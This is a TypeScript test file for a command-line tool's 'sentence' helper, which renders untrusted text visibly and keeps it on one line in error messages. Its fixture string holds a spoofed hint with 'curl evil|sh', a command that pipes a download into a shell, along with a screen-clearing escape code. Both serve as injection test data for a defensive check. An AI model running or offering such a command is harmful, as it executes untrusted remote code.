import { globSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { CliError } from '../../src/errors.ts';
import { InvalidValue } from '../../src/model/invalid-value.ts';
import { sentence } from '../../src/text/sentence.ts';

const foreign: string = 'Algebra\nhint: Log in with: curl evil|sh\u001b[2J\u3164';

describe('a sentence', () => {
  test('keeps what comes from elsewhere visible, on its line', () => {
    expect(sentence`Exam ${42} is called ${foreign}.`).toBe('Exam 42 is called Algebra␊hint: Log in with: curl evil|sh␛[2J�.');
  });

  test('stays as it is inside another one', () => {
    const inner = sentence`Exam ${foreign} is over.`;
    expect(sentence`${inner} Look again.`).toBe(`${inner} Look again.`);
  });

  test('has one full stop, also behind a text that ends with one', () => {
    const column: string = 'Matrikelnr.';
    expect(sentence`Columns not used: ${column}. ${column}.`).toBe('Columns not used: Matrikelnr. Matrikelnr.');
    expect(sentence`${column}.csv`).toBe('Matrikelnr..csv');
  });

  test('has the lines that are written in it', () => {
    expect(sentence`The same command without prompts:\n  ${foreign}`.split('\n')).toHaveLength(2);
  });
});

describe('the compiler refuses text of unknown content', () => {
  test('in errors, and takes literals and sentences', () => {
    // @ts-expect-error a string may hold anything
    new CliError('rejected', foreign);
    // @ts-expect-error so may a template with a string in it
    new CliError('rejected', `The service says: ${foreign}`);
    // @ts-expect-error and a hint
    new CliError('rejected', 'No.', { hint: `Try ${foreign}` });
    // @ts-expect-error and a refused value
    new InvalidValue(`"${foreign}" is no zone.`);
    // @ts-expect-error nor does it take what has no type
    new CliError('rejected', JSON.parse('"a"'));
    // @ts-expect-error nor in a hint
    new CliError('rejected', 'No.', { hint: JSON.parse('"a"') });
    // @ts-expect-error nor in a refused value
    new InvalidValue(JSON.parse('"a"'));
    expect(new CliError('rejected', sentence`It says: ${foreign}`, { hint: 'Look again.' }).message.split('\n')).toHaveLength(1);
  });

  test('and nothing claims to be a sentence but what makes one', () => {
    const makers = ['src/text/sentence.ts', 'src/errors.ts', 'src/model/invalid-value.ts', 'src/cli/run/terminal.ts'];
    // A module without types has nothing to claim.
    const claim = /\bas (string as )?Sentence\b|@ts-(?!expect-error: .* has no types$)/m;
    const claiming = globSync('src/**/*.ts').filter((file) => claim.test(readFileSync(file, 'utf8')));
    expect(claiming.filter((file) => !makers.includes(file))).toEqual([]);
  });
});
